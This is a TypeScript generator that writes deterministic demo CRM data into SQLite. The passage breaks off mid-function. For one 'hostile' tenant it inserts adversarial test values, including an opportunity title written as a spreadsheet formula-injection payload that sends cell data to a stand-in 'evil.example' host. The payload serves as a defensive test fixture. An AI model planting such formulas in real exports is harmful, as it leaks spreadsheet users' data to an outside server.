import type Database from 'better-sqlite3';
import { CUSTOM_FIELD_TYPES, SUBJECT_ENTITIES, entity as entityDef, type CustomFieldType, type EntityName, type SubjectEntity } from '../schema';
import { ATTACHMENT_KINDS } from './attachment-content';
import { HOSTILE_COMPANY_NAMES, HOSTILE_FIELD_TEXTS, HOSTILE_FILE_NAMES, HOSTILE_NOTES, HOSTILE_PERSONS } from './hostile-cases';
import { Prng } from './prng';
import { DAY_MS, DEMO_TRAPS } from './tenant-profile';
import {
  ALL_COUNTRIES,
  COUNTRIES,
  DEAL_WORDS,
  HOME_COUNTRIES,
  INDUSTRIES,
  JOB_TITLES,
  LINE_DESCRIPTIONS,
  NOTE_LINES,
  SPACE_NAMES,
  TASK_TITLES,
  TOPICS,
  foldAscii,
  slugify,
  type CountryCode,
  type CountryDef,
} from './word-lists';

/**
 * The rows of one demo tenant, written with prepared statements inside
 * transactions. Every value comes from a Prng stream derived from (seed, tenant
 * index, purpose), and every timestamp from `asOf`: the same inputs write the same
 * rows in the same order, hence the same database bytes.
 */

export type DemoSize = 'small' | 'medium' | 'large';

export interface TenantShape {
  colleagues: number;
  companies: number;
  persons: number;
  spaces: number;
  opportunities: number;
  tasks: number;
  /** Activities ("history") per subject type. */
  activities: Record<SubjectEntity, number>;
  files: number;
  /** Files of several MB ('medium' and 'large' only). */
  bigFiles: number;
}

export interface RowsContext {
  seed: number;
  index: number;
  size: DemoSize;
  tenantId: string;
  tenantName: string;
  region: string;
  tenantCreatedMs: number;
  asOfMs: number;
}

/** What the object phase needs to write each attachment; the row is inserted once bytes are known. */
export interface FileSpec {
  id: number;
  ownerType: SubjectEntity;
  ownerId: number;
  name: string;
  mime: string;
  ext: string;
  size: number;
  uploadedBy: number | null;
  createdAt: string;
  updatedAt: string;
  /** Integrity traps (integrity tenant only). */
  trap: 'missing' | 'mismatch' | null;
}

export interface RowsResult {
  files: FileSpec[];
  /** Company deleted after its persons were written (integrity tenant), or null. */
  deletedCompanyId: number | null;
}

const iso = (ms: number): string => new Date(ms).toISOString();
const isoDate = (ms: number): string => new Date(ms).toISOString().slice(0, 10);
const toSecond = (ms: number): number => Math.floor(ms / 1000) * 1000;
const cents = (c: number): string => `${Math.floor(c / 100)}.${String(c % 100).padStart(2, '0')}`;

function between(rng: Prng, from: number, to: number): number {
  if (to <= from) return toSecond(from);
  return toSecond(from + Math.floor(rng.next() * (to - from)));
}

/** Newer data is somewhat denser, as in a growing CRM. */
function recent(rng: Prng, from: number, to: number): number {
  if (to <= from) return toSecond(from);
  return toSecond(from + Math.floor(rng.skewed(1.25) * (to - from)));
}

/**
 * `n` creation times in [from, to), ascending: record IDs grow with creation time,
 * as auto-increment IDs do in the real CRM. Index 0 is unused (IDs start at 1).
 */
function creationTimes(rng: Prng, n: number, from: number, to: number): number[] {
  const out = new Array<number>(n);
  for (let i = 0; i < n; i++) out[i] = recent(rng, from, to);
  out.sort((a, b) => a - b);
  out.unshift(0);
  return out;
}

/** How many records (IDs 1…n of `created`) existed at time `t`. */
function existingAt(created: readonly number[], n: number, t: number): number {
  let lo = 0;
  let hi = n;
  while (lo < hi) {
    const mid = (lo + hi + 1) >> 1;
    if ((created[mid] as number) <= t) lo = mid;
    else hi = mid - 1;
  }
  return lo;
}

/**
 * A record that existed at time `t` (skew > 1 favours old, busy records), or the
 * first record when none did yet: the caller then moves `t` to its creation.
 */
function existingRecord(rng: Prng, created: readonly number[], n: number, t: number, skew = 1): number {
  const upto = existingAt(created, n, t);
  if (upto === 0) return 1;
  return 1 + Math.floor(Math.pow(rng.next(), skew) * upto);
}

/** updated_at ≥ created_at; many records never changed after creation. */
function updatedAfter(rng: Prng, created: number, asOf: number): number {
  if (rng.chance(0.4) || asOf <= created) return created;
  const r = rng.next();
  return toSecond(created + Math.floor(r * r * (asOf - created)));
}

export function tenantShape(seed: number, index: number, size: DemoSize): TenantShape {
  const rng = Prng.derive(seed, 'tenant', index, 'shape', size);
  const persons = size === 'small' ? rng.int(50, 300) : size === 'medium' ? rng.int(4500, 5500) : rng.int(45_000, 55_000);
  const perPerson = 2.7 + rng.next() * 0.6; // ~3 activities per person
  const total = Math.round(persons * perPerson);
  const act = {
    persons: Math.max(1, Math.round(total * 0.55)),
    companies: Math.max(1, Math.round(total * 0.2)),
    opportunities: Math.max(1, Math.round(total * 0.2)),
    spaces: Math.max(1, Math.round(total * 0.05)),
  };
  return {
    persons,
    companies: Math.max(5, Math.round(persons / (3.5 + rng.next() * 1.5))),
    colleagues: size === 'small' ? rng.int(2, 12) : size === 'medium' ? rng.int(15, 40) : rng.int(60, 150),
    spaces: size === 'small' ? rng.int(2, 6) : size === 'medium' ? rng.int(10, 30) : rng.int(40, 100),
    opportunities: Math.max(3, Math.round(persons * (0.35 + rng.next() * 0.1))),
    tasks: Math.max(3, Math.round(persons * (0.4 + rng.next() * 0.2))),
    activities: act,
    files: size === 'small' ? rng.int(6, 20) : size === 'medium' ? rng.int(250, 350) : rng.int(1200, 1600),
    bigFiles: size === 'small' ? 0 : size === 'medium' ? 2 : 4,
  };
}

/** `INSERT INTO "x" (...) VALUES (@a, ...)` with every schema column: a missing value is an error, not a NULL. */
function inserter(db: Database.Database, name: EntityName): (row: Record<string, unknown>) => void {
  const cols = entityDef(name).columns.map((c) => c.name);
  const stmt = db.prepare(`INSERT INTO "${name}" (${cols.map((c) => `"${c}"`).join(', ')}) VALUES (${cols.map(() => '?').join(', ')})`);
  const values: unknown[] = new Array(cols.length);
  // Positional binding: measured ~1.5× faster than named parameters in better-sqlite3.
  return (row) => {
    for (let i = 0; i < cols.length; i++) {
      const v = row[cols[i] as string];
      if (v === undefined) throw new Error(`demo row for ${name} has no ${cols[i]}`);
      values[i] = v;
    }
    stmt.run(values);
  };
}

function emailLocal(first: string, last: string): string {
  return `${foldAscii(first)}.${foldAscii(last)}`
    .toLowerCase()
    .replace(/[^a-z0-9.]+/g, '')
    .replace(/\.{2,}/g, '.')
    .replace(/^\.|\.$/g, '') || 'contact';
}

interface Company {
  created: number;
  domain: string;
  country: CountryDef;
  personIds: number[];
}

const CUSTOM_FIELDS: Record<SubjectEntity, Record<CustomFieldType, [key: string, label: string, options?: string[]]>> = {
  persons: {
    text: ['nickname', 'Nickname'],
    long_text: ['background', 'Background'],
    number: ['nps_score', 'NPS score'],
    money: ['lifetime_value', 'Lifetime value (EUR)'],
    date: ['birthday', 'Birthday'],
    datetime: ['last_contacted_at', 'Last contacted'],
    boolean: ['newsletter', 'Newsletter opt-in'],
    select: ['lead_source', 'Lead source', ['Website', 'Trade fair', 'Referral', 'Cold call', 'LinkedIn']],
    multiselect: ['interests', 'Interests', ['Analytics', 'Integrations', 'Mobile', 'Security', 'Training']],
    url: ['linkedin', 'LinkedIn profile'],
    email: ['private_email', 'Private e-mail'],
    phone: ['mobile', 'Mobile phone'],
  },
  companies: {
    text: ['vat_id', 'VAT ID'],
    long_text: ['account_notes', 'Account notes'],
    number: ['employees', 'Employees'],
    money: ['annual_revenue', 'Annual revenue (EUR)'],
    date: ['founded_on', 'Founded on'],
    datetime: ['last_audit_at', 'Last audit'],
    boolean: ['key_account', 'Key account'],
    select: ['tier', 'Tier', ['A', 'B', 'C']],
    multiselect: ['products', 'Products in use', ['CRM', 'Invoicing', 'Projects', 'Helpdesk', 'Telephony']],
    url: ['linkedin_page', 'LinkedIn page'],
    email: ['invoice_email', 'Invoice e-mail'],
    phone: ['switchboard', 'Switchboard'],
  },
  opportunities: {
    text: ['po_number', 'PO number'],
    long_text: ['next_steps', 'Next steps'],
    number: ['seats', 'Seats'],
    money: ['budget', 'Customer budget (EUR)'],
    date: ['contract_start', 'Contract start'],
    datetime: ['demo_at', 'Demo scheduled'],
    boolean: ['signed_nda', 'NDA signed'],
    select: ['source', 'Source', ['Inbound', 'Outbound', 'Partner', 'Upsell']],
    multiselect: ['competitors', 'Competitors', ['Acme', 'Globex', 'Initech', 'Umbrella', 'Hooli']],
    url: ['proposal_link', 'Proposal link'],
    email: ['procurement_email', 'Procurement e-mail'],
    phone: ['procurement_phone', 'Procurement phone'],
  },
  spaces: {
    text: ['code', 'Project code'],
    long_text: ['charter', 'Charter'],
    number: ['priority', 'Priority'],
    money: ['budget', 'Budget (EUR)'],
    date: ['kickoff_on', 'Kick-off'],
    datetime: ['review_at', 'Next review'],
    boolean: ['archived', 'Archived'],
    select: ['status', 'Status', ['Planning', 'Running', 'On hold', 'Done']],
    multiselect: ['tags', 'Tags', ['internal', 'customer', 'urgent', 'q1', 'q2', 'q3', 'q4']],
    url: ['wiki', 'Wiki page'],
    email: ['list_address', 'Mailing list'],
    phone: ['hotline', 'Hotline'],
  },
};

/**
 * Writes every row except `files` (whose checksums are known only once the bytes
 * are made) inside one transaction, and returns the planned files.
 */
export function writeTenantRows(db: Database.Database, ctx: RowsContext): RowsResult {
  const { seed, index } = ctx;
  // Everything is dated strictly before asOf.
  const asOfMs = ctx.asOfMs - 1000;
  const shape = tenantShape(seed, index, ctx.size);
  const hostile = index === DEMO_TRAPS.hostileTenantIndex;
  const integrity = index === DEMO_TRAPS.integrityTenantIndex;
  const stream = (purpose: string): Prng => Prng.derive(seed, 'tenant', index, purpose);
  const windowStart = Math.max(ctx.tenantCreatedMs, asOfMs - 3 * 365 * DAY_MS);
  const homeCodes = HOME_COUNTRIES[ctx.region] ?? ['IE'];
  const home = COUNTRIES[homeCodes[0] as CountryCode];
  const pickCountry = (rng: Prng): CountryDef =>
    rng.chance(0.65) ? COUNTRIES[rng.pick(homeCodes)] : COUNTRIES[rng.pick(ALL_COUNTRIES)];
  const tenantDomain = `${ctx.tenantId}.crm.example`;

  const result: RowsResult = { files: [], deletedCompanyId: null };

  db.transaction(() => {
    // ---- colleagues -------------------------------------------------------
    const insColleague = inserter(db, 'colleagues');
    const colleagueCount = shape.colleagues;
    const colleagueCreated: number[] = [0];
    {
      const rng = stream('colleagues');
      const used = new Set<string>();
      const admins = 1 + Math.floor(colleagueCount / 10);
      const times = creationTimes(rng, colleagueCount - 1, ctx.tenantCreatedMs + 120_000, asOfMs);
      for (let id = 1; id <= colleagueCount; id++) {
        const c = pickCountry(rng);
        const first = rng.pick(c.firstNames);
        const last = rng.pick(c.lastNames);
        let local = emailLocal(first, last);
        for (let n = 2; used.has(local); n++) local = `${emailLocal(first, last)}${n}`;
        used.add(local);
        const role = id === 1 ? 'owner' : id <= 1 + admins ? 'admin' : rng.chance(0.15) ? 'read_only' : 'member';
        const created = id === 1 ? toSecond(ctx.tenantCreatedMs + 60_000) : (times[id - 1] as number);
        colleagueCreated.push(created);
        insColleague({
          id,
          first_name: first,
          last_name: last,
          email: `${local}@${tenantDomain}`,
          role,
          active: id === 1 || rng.chance(0.9) ? 1 : 0,
          created_at: iso(created),
          updated_at: iso(updatedAfter(rng, created, asOfMs)),
        });
      }
    }
    const colleague = (rng: Prng, p: number): number | null => (rng.chance(p) ? rng.int(1, colleagueCount) : null);

    // ---- companies --------------------------------------------------------
    const insCompany = inserter(db, 'companies');
    const companies: Company[] = [undefined as unknown as Company]; // 1-based
    const hostileCompanies = hostile ? HOSTILE_COMPANY_NAMES.length : 0;
    const companyCount = shape.companies + hostileCompanies + (integrity ? 1 : 0);
    const deletedCompanyId = integrity ? companyCount : null;
    {
      const rng = stream('companies');
      const times = creationTimes(rng, companyCount, windowStart, asOfMs);
      for (let id = 1; id <= companyCount; id++) {
        const c = pickCountry(rng);
        const brand = rng.pick(c.brands);
        const core = rng.pick(c.cores);
        const legal = rng.pick(c.legalForms);
        let name: string;
        if (id <= hostileCompanies) name = HOSTILE_COMPANY_NAMES[id - 1] as string;
        else if (id === deletedCompanyId) name = 'Dissolved Holdings Ltd';
        else if (c.code === 'JP') name = `${legal}${brand}${core}`;
        else if (rng.chance(0.2)) name = `${rng.pick(c.lastNames)} & ${rng.pick(c.lastNames)} ${legal}`;
        else name = `${brand} ${core} ${legal}`;
        const domainBase = c.code === 'JP' ? `${brand} ${core}` : name.replace(legal, '');
        const domain = `${slugify(domainBase).slice(0, 40).replace(/-+$/, '') || 'company'}.example`;
        const created = times[id] as number;
        const [city, postcode] = rng.pick(c.cities);
        const hasAddress = rng.chance(0.85);
        const streetNo = rng.int(1, 200);
        const street = rng.pick(c.streets);
        companies.push({ created, domain, country: c, personIds: [] });
        insCompany({
          id,
          name,
          industry: rng.chance(0.9) ? rng.pick(INDUSTRIES) : null,
          website: rng.chance(0.7) ? `https://www.${domain}` : null,
          phone: rng.chance(0.7) ? c.phone(rng) : null,
          email: rng.chance(0.6) ? `${rng.pick(['info', 'kontakt', 'hello', 'office', 'sales'])}@${domain}` : null,
          street: hasAddress ? (c.code === 'FR' ? `${streetNo} ${street}` : c.code === 'JP' ? street : `${street} ${streetNo}`) : null,
          city: hasAddress ? city : null,
          postcode: hasAddress ? postcode : null,
          country: hasAddress || rng.chance(0.5) ? c.code : null,
          owner_colleague_id: colleague(rng, 0.9),
          created_at: iso(created),
          updated_at: iso(updatedAfter(rng, created, asOfMs)),
        });
      }
    }
    const liveCompanies = deletedCompanyId === null ? companyCount : companyCount - 1;
    const companyCreated = companies.map((c) => c?.created ?? 0);
    /** A live company (never the deleted one) that existed at `t`, skewed so that a few old companies have many contacts. */
    const companyAt = (rng: Prng, t: number): number | null =>
      existingAt(companyCreated, liveCompanies, t) === 0 ? null : existingRecord(rng, companyCreated, liveCompanies, t, 1.8);

    // ---- persons ----------------------------------------------------------
    const insPerson = inserter(db, 'persons');
    const personCount = shape.persons;
    const personCreated: number[] = [0];
    const personCompany: (number | null)[] = [null];
    {
      const rng = stream('persons');
      const times = creationTimes(rng, personCount, windowStart, asOfMs);
      for (let id = 1; id <= personCount; id++) {
        const created = times[id] as number;
        let companyId: number | null = rng.chance(0.88) ? companyAt(rng, created) : null;
        if (integrity && DEMO_TRAPS.danglingPersonIds.includes(id)) companyId = deletedCompanyId;
        const company = companyId !== null ? (companies[companyId] as Company) : null;
        const c = company && rng.chance(0.7) ? company.country : pickCountry(rng);
        let first = rng.pick(c.firstNames);
        let last = rng.pick(c.lastNames);
        if (hostile && id <= HOSTILE_PERSONS.length) ({ first, last } = HOSTILE_PERSONS[id - 1] as { first: string; last: string });
        personCreated.push(created);
        personCompany.push(companyId);
        company?.personIds.push(id);
        const domain = company ? company.domain : rng.pick(['mail.example', 'post.example', 'inbox.example']);
        insPerson({
          id,
          first_name: first,
          last_name: last,
          job_title: rng.chance(0.8) ? rng.pick(JOB_TITLES) : null,
          email: rng.chance(0.9) ? `${emailLocal(first, last)}${rng.chance(0.1) ? rng.int(1, 99) : ''}@${domain}` : null,
          phone: rng.chance(0.75) ? c.phone(rng) : null,
          company_id: companyId,
          owner_colleague_id: colleague(rng, 0.95),
          created_at: iso(created),
          updated_at: iso(updatedAfter(rng, created, asOfMs)),
        });
      }
    }

    // ---- spaces -----------------------------------------------------------
    const insSpace = inserter(db, 'spaces');
    const spaceCount = shape.spaces;
    const spaceCreated: number[] = [0];
    {
      const rng = stream('spaces');
      const times = creationTimes(rng, spaceCount, windowStart, asOfMs);
      for (let id = 1; id <= spaceCount; id++) {
        const base = SPACE_NAMES[(id - 1) % SPACE_NAMES.length] as string;
        const round = Math.floor((id - 1) / SPACE_NAMES.length);
        const created = times[id] as number;
        spaceCreated.push(created);
        insSpace({
          id,
          name: round > 0 ? `${base} ${round + 1}` : base,
          description: rng.chance(0.7) ? `Shared space for ${rng.pick(TOPICS)}; owner keeps the list "current", please.` : null,
          owner_colleague_id: colleague(rng, 0.9),
          created_at: iso(created),
          updated_at: iso(updatedAfter(rng, created, asOfMs)),
        });
      }
    }

    // ---- opportunities and their income/expense lines ----------------------
    const insOpp = inserter(db, 'opportunities');
    const insLine = inserter(db, 'opportunity_lines');
    const oppCount = shape.opportunities;
    const oppCreated: number[] = [0];
    {
      const rng = stream('opportunities');
      const lrng = stream('opportunity-lines');
      let lineId = 0;
      const probability: Record<string, number> = { lead: 10, qualified: 25, proposal: 50, negotiation: 75, won: 100, lost: 0 };
      const times = creationTimes(rng, oppCount, windowStart, asOfMs);
      for (let id = 1; id <= oppCount; id++) {
        const created = times[id] as number;
        const companyId = rng.chance(0.9) ? companyAt(rng, created) : null;
        const company = companyId !== null ? (companies[companyId] as Company) : null;
        let personId: number | null = null;
        if (company && company.personIds.length > 0 && rng.chance(0.8)) {
          const candidate = rng.pick(company.personIds);
          if ((personCreated[candidate] as number) <= created) personId = candidate;
        } else if (rng.chance(0.3) && existingAt(personCreated, personCount, created) > 0) {
          personId = existingRecord(rng, personCreated, personCount, created);
        }
        const spaceId = rng.chance(0.3) && existingAt(spaceCreated, spaceCount, created) > 0 ? existingRecord(rng, spaceCreated, spaceCount, created) : null;
        const stage = rng.weighted([
          ['lead', 20],
          ['qualified', 20],
          ['proposal', 15],
          ['negotiation', 10],
          ['won', 20],
          ['lost', 15],
        ] as const);
        oppCreated.push(created);
        const closed = stage === 'won' || stage === 'lost' ? between(rng, created, asOfMs) : null;
        const currency = rng.chance(0.8) ? home.currency : rng.pick(['EUR', 'GBP', 'SEK', 'PLN'] as const);
        let title = `${rng.pick(DEAL_WORDS)} ${new Date(created).getUTCFullYear()}`;
        if (hostile && id === 1) title = 'Deal "Alpha", phase 1,\nincl. hardware';
        if (hostile && id === 2) title = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")';
        insOpp({
          id,
          title,
          company_id: companyId,
          person_id: personId,
          space_id: spaceId,
          owner_colleague_id: colleague(rng, 0.95),
          stage,
          amount: rng.chance(0.95) ? cents(rng.int(10, 5000) * 50 * 100) : null,
          currency,
          probability: rng.chance(0.9) ? probability[stage] : null,
          expected_close_on: rng.chance(0.9) ? isoDate(created + rng.int(14, 180) * DAY_MS) : null,
          closed_at: closed !== null ? iso(closed) : null,
          created_at: iso(created),
          updated_at: iso(Math.max(closed ?? 0, updatedAfter(rng, created, asOfMs))),
        });
        const lines = lrng.weighted([
          [0, 30],
          [1, 25],
          [2, 20],
          [3, 15],
          [5, 10],
        ] as const);
        for (let l = 0; l < lines; l++) {
          const kind = lrng.chance(0.7) ? 'income' : 'expense';
          const qtyHalves = lrng.int(1, 80); // 0.50 … 40.00
          const priceCents = lrng.int(1, 2500) * 10 * (kind === 'income' ? 10 : 1); // even: the product is exact
          const lineCreated = between(lrng, created, asOfMs);
          insLine({
            id: ++lineId,
            opportunity_id: id,
            kind,
            description: lrng.pick(LINE_DESCRIPTIONS[kind]),
            quantity: cents(qtyHalves * 50),
            unit_price: cents(priceCents),
            amount: cents((qtyHalves * priceCents) / 2),
            currency,
            booked_on: isoDate(lineCreated),
            created_at: iso(lineCreated),
            updated_at: iso(updatedAfter(lrng, lineCreated, asOfMs)),
          });
        }
      }
    }

    // ---- tasks ------------------------------------------------------------
    const insTask = inserter(db, 'tasks');
    {
      const rng = stream('tasks');
      for (let id = 1; id <= shape.tasks; id++) {
        const about = rng.weighted([
          ['person', 50],
          ['opportunity', 25],
          ['space', 10],
          ['none', 15],
        ] as const);
        let personId: number | null = null;
        let companyId: number | null = null;
        let oppId: number | null = null;
        let spaceId: number | null = null;
        let created = recent(rng, windowStart, asOfMs);
        if (about === 'person') {
          personId = existingRecord(rng, personCreated, personCount, created);
          created = Math.max(created, personCreated[personId] as number);
          const pc = personCompany[personId] ?? null;
          if (pc !== null && pc !== deletedCompanyId && rng.chance(0.6)) companyId = pc;
        } else if (about === 'opportunity') {
          oppId = existingRecord(rng, oppCreated, oppCount, created);
          created = Math.max(created, oppCreated[oppId] as number);
        } else if (about === 'space') {
          spaceId = existingRecord(rng, spaceCreated, spaceCount, created);
          created = Math.max(created, spaceCreated[spaceId] as number);
        }
        const due = rng.chance(0.85) ? toSecond(created + rng.int(1, 30) * DAY_MS) : null;
        const done = due !== null && due < asOfMs ? rng.chance(0.8) : rng.chance(0.1);
        insTask({
          id,
          title: rng.pick(TASK_TITLES),
          due_at: due !== null ? iso(due) : null,
          done: done ? 1 : 0,
          assignee_colleague_id: colleague(rng, 0.9),
          person_id: personId,
          company_id: companyId,
          opportunity_id: oppId,
          space_id: spaceId,
          created_at: iso(created),
          updated_at: iso(updatedAfter(rng, created, asOfMs)),
        });
      }
    }

    // ---- activities (history) of all four subject types --------------------
    const insActivity = inserter(db, 'activities');
    {
      const rng = stream('activities');
      let id = 0;
      const created: Record<SubjectEntity, number[]> = {
        persons: personCreated,
        companies: companyCreated,
        opportunities: oppCreated,
        spaces: spaceCreated,
      };
      const counts: Record<SubjectEntity, number> = { persons: personCount, companies: liveCompanies, opportunities: oppCount, spaces: spaceCount };
      const hostileNotes = hostile ? [...HOSTILE_NOTES] : [];
      for (const subjectType of SUBJECT_ENTITIES) {
        for (let n = 0; n < shape.activities[subjectType]; n++) {
          let occurred = recent(rng, windowStart, asOfMs);
          const subjectId = existingRecord(rng, created[subjectType], counts[subjectType], occurred, 1.3);
          occurred = Math.max(occurred, created[subjectType][subjectId] as number);
          const kind = rng.weighted([
            ['call', 30],
            ['meeting', 20],
            ['email', 35],
            ['note', 15],
          ] as const);
          const madeAt = kind === 'note' ? occurred : Math.min(asOfMs, occurred + rng.int(0, 3600) * 1000);
          const topic = rng.pick(TOPICS);
          const subject =
            kind === 'call' ? `Call about ${topic}` : kind === 'meeting' ? `Meeting: ${topic}` : kind === 'email' ? `Re: ${topic}` : `Note on ${topic}`;
          let body: string | null = null;
          if (rng.chance(0.85)) {
            const lines = rng.int(1, 3);
            const parts: string[] = [];
            for (let l = 0; l < lines; l++) parts.push(rng.pick(NOTE_LINES));
            body = parts.join('\n');
          }
          if (hostileNotes.length > 0 && subjectType === 'persons' && n % 3 === 0) body = hostileNotes.shift() as string;
          insActivity({
            id: ++id,
            subject_type: subjectType,
            subject_id: subjectId,
            kind,
            occurred_at: iso(occurred),
            colleague_id: colleague(rng, 0.9),
            subject,
            body,
            created_at: iso(madeAt),
            updated_at: iso(updatedAfter(rng, madeAt, asOfMs)),
          });
        }
      }
    }

    // ---- custom field definitions (every type on every subject entity) and values
    const insDef = inserter(db, 'custom_field_definitions');
    const insValue = inserter(db, 'custom_field_values');
    {
      const rng = stream('custom-fields');
      const defs: { id: number; entity: SubjectEntity; type: CustomFieldType; created: number; options?: string[] }[] = [];
      let defId = 0;
      for (const e of SUBJECT_ENTITIES) {
        CUSTOM_FIELD_TYPES.forEach((type, position) => {
          const [key, label, options] = CUSTOM_FIELDS[e][type];
          const created = between(rng, windowStart, windowStart + (asOfMs - windowStart) / 10);
          defs.push({ id: ++defId, entity: e, type, created, ...(options ? { options } : {}) });
          insDef({
            id: defId,
            entity: e,
            key,
            label: hostile && e === 'persons' && type === 'text' ? '=Nickname (imported)' : label,
            field_type: type,
            options: options ? JSON.stringify(options) : null,
            position: position + 1,
            created_at: iso(created),
            updated_at: iso(updatedAfter(rng, created, asOfMs)),
          });
        });
      }
      const records: Record<SubjectEntity, { count: number; created: number[] }> = {
        persons: { count: personCount, created: personCreated },
        companies: { count: liveCompanies, created: companyCreated },
        opportunities: { count: oppCount, created: oppCreated },
        spaces: { count: spaceCount, created: spaceCreated },
      };
      let valueId = 0;
      let hostileTexts = hostile ? [...HOSTILE_FIELD_TEXTS] : [];
      for (const e of SUBJECT_ENTITIES) {
        const eDefs = defs.filter((d) => d.entity === e);
        const { count, created } = records[e];
        for (let recordId = 1; recordId <= count; recordId++) {
          for (const def of eDefs) {
            // Record 1 of each list has every field filled, so every definition has values.
            if (recordId !== 1 && !rng.chance(0.6)) continue;
            const at = between(rng, Math.max(def.created, created[recordId] as number), asOfMs);
            let value = customValue(rng, def.type, def.options, asOfMs, recordId !== 1);
            if (def.type === 'text' && hostileTexts.length > 0) {
              value = hostileTexts[0] as string;
              hostileTexts = hostileTexts.slice(1);
            }
            insValue({
              id: ++valueId,
              field_id: def.id,
              record_id: recordId,
              value,
              created_at: iso(at),
              updated_at: iso(updatedAfter(rng, at, asOfMs)),
            });
          }
        }
      }
    }

    // ---- files (planned now, rows written once their bytes are known) ------
    result.files = planFiles(ctx, shape, {
      colleagues: colleagueCount,
      counts: { persons: personCount, companies: liveCompanies, opportunities: oppCount, spaces: spaceCount },
      created: {
        persons: personCreated,
        companies: companyCreated,
        opportunities: oppCreated,
        spaces: spaceCreated,
      },
      firstRegularCompany: hostileCompanies + 1,
      windowStart,
      endMs: asOfMs,
    });
    result.deletedCompanyId = deletedCompanyId;
  })();

  return result;
}

function customValue(rng: Prng, type: CustomFieldType, options: string[] | undefined, asOfMs: number, mayBeNull: boolean): string | null {
  if (mayBeNull && rng.chance(0.03)) return null;
  switch (type) {
    case 'text':
      return rng.pick(['VIP', 'DE811234567', 'PO-2024-0042', 'SP-117', 'Bobby', 'ÅÄÖ-Kund', 'Key contact, "do not call"']);
    case 'long_text':
      return `${rng.pick(NOTE_LINES)}\n${rng.pick(NOTE_LINES)}`;
    case 'number':
      return rng.chance(0.7) ? String(rng.int(0, 5000)) : `${rng.int(0, 99)}.${rng.int(0, 9)}`;
    case 'money':
      return cents(rng.int(1, 2_000_000) * 100);
    case 'date':
      return isoDate(asOfMs - rng.int(-365, 20 * 365) * DAY_MS);
    case 'datetime':
      return iso(toSecond(asOfMs - Math.floor(rng.next() * 700 * DAY_MS)));
    case 'boolean':
      return rng.chance(0.5) ? 'true' : 'false';
    case 'select':
      return rng.pick(options ?? ['A']);
    case 'multiselect': {
      const all = options ?? ['A'];
      return JSON.stringify(all.filter(() => rng.chance(0.4)));
    }
    case 'url':
      return `https://www.${rng.pick(['linkedin', 'wiki', 'docs', 'intranet'])}.example/${rng.int(1000, 99999)}`;
    case 'email':
      return `${rng.pick(['anna', 'jurgen', 'lukasz', 'zoe', 'soren', 'yamada'])}.${rng.int(1, 999)}@mail.example`;
    case 'phone':
      return COUNTRIES[rng.pick(ALL_COUNTRIES)].phone(rng);
  }
}

interface FilePlanInput {
  colleagues: number;
  counts: Record<SubjectEntity, number>;
  created: Record<SubjectEntity, number[]>;
  firstRegularCompany: number;
  windowStart: number;
  endMs: number;
}

function fileName(rng: Prng, ext: string, at: number): string {
  const date = isoDate(at);
  const n = rng.int(1, 9999);
  switch (ext) {
    case 'pdf':
      return rng.pick([`Angebot ${n}.pdf`, `Contract signed ${date}.pdf`, `Invoice ${n}.pdf`, `Faktura ${n}.pdf`, `Proposal v${rng.int(1, 5)}.pdf`, `Offert Ørsted ${n}.pdf`]);
    case 'jpg':
      return rng.pick([`IMG_${String(n).padStart(4, '0')}.jpg`, `Photo ${date}.jpg`, `Messestand Köln ${n}.jpg`]);
    case 'png':
      return rng.pick([`Screenshot ${date} at ${String(rng.int(8, 18)).padStart(2, '0')}.${String(rng.int(0, 59)).padStart(2, '0')}.${String(rng.int(0, 59)).padStart(2, '0')}.png`, 'logo.png', `diagram ${n}.png`]);
    case 'docx':
      return rng.pick([`Meeting notes ${date}.docx`, `Protokoll ${date}.docx`, `Umowa ${n}.docx`]);
    case 'xlsx':
      return rng.pick([`Q${rng.int(1, 4)} forecast.xlsx`, `Preisliste ${date.slice(0, 4)}.xlsx`, `Budżet ${n}.xlsx`]);
    case 'csv':
      return rng.pick([`export (${rng.int(1, 9)}).csv`, 'contacts.csv', `orders ${date}.csv`]);
    case 'txt':
      return rng.pick(['notes.txt', 'readme.txt', `call ${date}.txt`]);
    case 'eml':
      return `Re: ${rng.pick(TOPICS)}.eml`;
    case 'zip':
      return rng.pick(['documents.zip', `photos ${date}.zip`]);
    default:
      return `Agenda ${date}.${ext}`;
  }
}

const MB = 1024 * 1024;

function planFiles(ctx: RowsContext, shape: TenantShape, input: FilePlanInput): FileSpec[] {
  const rng = Prng.derive(ctx.seed, 'tenant', ctx.index, 'files');
  const hostile = ctx.index === DEMO_TRAPS.hostileTenantIndex;
  const integrity = ctx.index === DEMO_TRAPS.integrityTenantIndex;
  const hostileFiles = hostile ? HOSTILE_FILE_NAMES : [];
  const total = hostileFiles.length + shape.files;
  // Uploads in ID order, like every other list; each goes on a record that existed by then.
  const times = creationTimes(rng, total, input.windowStart, input.endMs);
  const files: FileSpec[] = [];
  const kinds = ATTACHMENT_KINDS.map((k) => [k, k.weight] as const);
  const ownerTypes = [
    ['persons', 40],
    ['companies', 30],
    ['opportunities', 25],
    ['spaces', 5],
  ] as const;

  const push = (ownerType: SubjectEntity, fixedOwner: number | null, spec: { name: string; mime: string; ext: string; size: number }): void => {
    const id = files.length + 1;
    const created = input.created[ownerType];
    const ownerId = fixedOwner ?? existingRecord(rng, created, input.counts[ownerType], times[id] as number);
    const at = Math.max(times[id] as number, created[ownerId] as number);
    let trap: FileSpec['trap'] = null;
    if (integrity && id === DEMO_TRAPS.missingFileId) trap = 'missing';
    if (integrity && id === DEMO_TRAPS.mismatchFileId) trap = 'mismatch';
    files.push({
      ...spec,
      id,
      ownerType,
      ownerId,
      uploadedBy: rng.chance(0.95) ? rng.int(1, input.colleagues) : null,
      createdAt: iso(at),
      updatedAt: iso(at),
      trap,
    });
  };

  // All "sameOwner" names go on one company: duplicates and NFC/NFD twins that collide once sanitised.
  for (const h of hostileFiles) {
    const ownerType: SubjectEntity = h.sameOwner ? 'companies' : rng.weighted(ownerTypes);
    const ext = h.mime === 'application/pdf' ? 'pdf' : h.mime.startsWith('text/') ? 'txt' : 'bin';
    push(ownerType, h.sameOwner ? input.firstRegularCompany : null, { name: h.name, mime: h.mime, ext, size: rng.logInt(200, 20_000) });
  }

  for (let n = 0; n < shape.files; n++) {
    // The first four cover every owner type, so every tenant has files on persons, companies, opportunities and spaces.
    const ownerType: SubjectEntity = n < 4 ? (SUBJECT_ENTITIES[n] as SubjectEntity) : rng.weighted(ownerTypes);
    const kind = rng.weighted(kinds);
    const big = n >= shape.files - shape.bigFiles;
    const bucket = rng.next();
    const size = big
